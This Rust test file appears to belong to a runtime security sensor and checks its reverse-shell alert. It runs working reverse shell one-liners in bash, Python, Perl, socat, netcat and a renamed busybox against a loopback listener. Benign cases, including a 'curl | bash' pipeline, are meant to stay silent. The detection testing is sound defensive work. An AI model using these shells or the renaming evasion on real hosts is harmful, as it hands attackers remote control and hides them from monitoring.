//! Reverse shells in many forms, each to a real listener on loopback in its own network.

use anyhow::{Result, ensure};
use vigie_tests::{Alert, Place, Root, Workload, shared};

const ALERT: &str = "K8S.NODE_ReverseShell";

/// Accepts one connection on port 4444, sends its argument and prints what comes back.
const LISTENER: &str = r#"
import socket, sys
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", 4444))
server.listen(1)
server.settimeout(8)
open("/tmp/ready", "w").close()
peer, _ = server.accept()
peer.settimeout(8)
peer.sendall(sys.argv[1].encode().decode("unicode_escape").encode())
peer.shutdown(socket.SHUT_WR)
while answer := peer.recv(4096):
    sys.stdout.buffer.write(answer)
"#;

/// What a shell is told to do.
const ORDERS: &str = r"id\nexit\n";

/// Runs a command beside the listener.
fn run(place: Place, orders: &str, command: &str) -> Result<vigie_tests::Outcome> {
    let script = format!(
        "python3 /t/listen.py '{orders}' &\n\
         until [ -e /tmp/ready ]; do sleep 0.02; done\n\
         {command}\n\
         exec 5>&- 3>&-; wait\n"
    );
    Workload::new(&Root::debian()?, place)
        .file("/t/listen.py", LISTENER, 0o644)
        .script(&script)
}

fn to_listener(alert: &Alert) -> bool {
    alert
        .peer()
        .is_some_and(|peer| peer.address.as_deref() == Some("127.0.0.1") && peer.port == Some(4444))
}

/// The command must raise the alert, and the alert must show the listener. Python programs are in
/// files: only what their shells are wired to gives them away.
fn check(test: &str, command: &str) -> Result<()> {
    let Some(sensor) = shared::live(test)? else {
        return Ok(());
    };
    for place in Place::BOTH {
        let outcome = run(place, ORDERS, command)?;
        ensure!(
            outcome.stdout.contains("uid=0(root)"),
            "the shell did not work: {outcome:?}"
        );
        shared::expect(sensor, &outcome, ALERT, to_listener)?;
    }
    Ok(())
}

/// The command must not raise the alert.
fn check_benign(test: &str, answer: &str, command: &str) -> Result<()> {
    let Some(sensor) = shared::live(test)? else {
        return Ok(());
    };
    for place in Place::BOTH {
        let outcome = run(place, answer, &format!("{command}\n{}", shared::MARK))?;
        shared::expect_none(sensor, &outcome, ALERT, "K8S.NODE_EICAR")?;
    }
    Ok(())
}

#[test]
fn bash() -> Result<()> {
    check("bash", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")
}

#[test]
fn bash_reads_orders_from_a_descriptor() -> Result<()> {
    check(
        "bash_reads_orders_from_a_descriptor",
        "exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
    )
}

#[test]
fn python() -> Result<()> {
    let command = "cat > /tmp/a.py <<'.'\nimport socket,os\ns=socket.create_connection((\"127.0.0.1\",4444))\n\
                   for f in (0,1,2): os.dup2(s.fileno(),f)\nos.execl(\"/bin/sh\",\"sh\",\"-i\")\n.\npython3 /tmp/a.py";
    check("python", command)
}

#[test]
fn python_with_pipes() -> Result<()> {
    let command = "cat > /tmp/a.py <<'.'\nimport socket,subprocess\n\
                   s=socket.create_connection((\"127.0.0.1\",4444))\n\
                   p=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE)\n\
                   s.sendall(p.communicate(s.recv(99))[0])\n.\npython3 /tmp/a.py";
    check("python_with_pipes", command)
}

#[test]
fn python_with_a_terminal() -> Result<()> {
    let command = "cat > /tmp/a.py <<'.'\nimport socket,os,pty\n\
                   s=socket.create_connection((\"127.0.0.1\",4444))\n\
                   for f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn(\"/bin/sh\")\n.\npython3 /tmp/a.py";
    check("python_with_a_terminal", command)
}

#[test]
fn perl() -> Result<()> {
    let command = "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
                   connect(S,sockaddr_in(4444,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");\
                   open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'";
    check("perl", command)
}

#[test]
fn socat() -> Result<()> {
    check("socat", "socat TCP:127.0.0.1:4444 EXEC:/bin/sh")
}

#[test]
fn socat_with_pipes() -> Result<()> {
    check(
        "socat_with_pipes",
        "socat TCP:127.0.0.1:4444 EXEC:/bin/sh,pipes",
    )
}

#[test]
fn socat_with_a_terminal() -> Result<()> {
    let command = "socat TCP:127.0.0.1:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane";
    check("socat_with_a_terminal", command)
}

#[test]
fn netcat_with_a_fifo() -> Result<()> {
    check(
        "netcat_with_a_fifo",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc.openbsd -N 127.0.0.1 4444 > /tmp/f",
    )
}

#[test]
fn netcat_that_executes() -> Result<()> {
    check(
        "netcat_that_executes",
        "nc.traditional -e /bin/sh 127.0.0.1 4444",
    )
}

#[test]
fn renamed_busybox_netcat() -> Result<()> {
    check(
        "renamed_busybox_netcat",
        "cp /bin/busybox /tmp/kworkerd\n\
         (exec -a busybox /tmp/kworkerd nc 127.0.0.1 4444 -e /bin/sh)",
    )
}

#[test]
fn renamed_busybox_shell() -> Result<()> {
    let command = "cp /bin/busybox /tmp/kworkerd\n\
                   exec 3<>/dev/tcp/127.0.0.1/4444\n\
                   (exec -a busybox /tmp/kworkerd sh <&3 >&3 2>&3)";
    check("renamed_busybox_shell", command)
}

#[test]
fn a_metric_is_no_shell() -> Result<()> {
    check_benign(
        "a_metric_is_no_shell",
        "",
        "printf 'deploys:1|c' | nc.openbsd -w 1 127.0.0.1 4444",
    )
}

#[test]
fn a_program_on_a_socket_is_no_shell() -> Result<()> {
    let command = "cat > /tmp/a.py <<'.'\nimport socket,os\ns=socket.create_connection((\"127.0.0.1\",4444))\n\
                   os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.execlp(\"date\",\"date\")\n.\npython3 /tmp/a.py";
    check_benign("a_program_on_a_socket_is_no_shell", "", command)
}

#[test]
fn a_downloaded_script_is_no_reverse_shell() -> Result<()> {
    check_benign(
        "a_downloaded_script_is_no_reverse_shell",
        r"HTTP/1.0 200 OK\r\n\r\necho installed\n",
        "curl -s http://127.0.0.1:4444/install.sh | bash",
    )
}

#[test]
fn a_shell_pipeline_is_no_reverse_shell() -> Result<()> {
    check_benign(
        "a_shell_pipeline_is_no_reverse_shell",
        r"HTTP/1.0 200 OK\r\n\r\nx\n",
        "curl -s http://127.0.0.1:4444/ | sh -c 'cat | wc -l' | sh -c 'read n; echo $n'",
    )
}
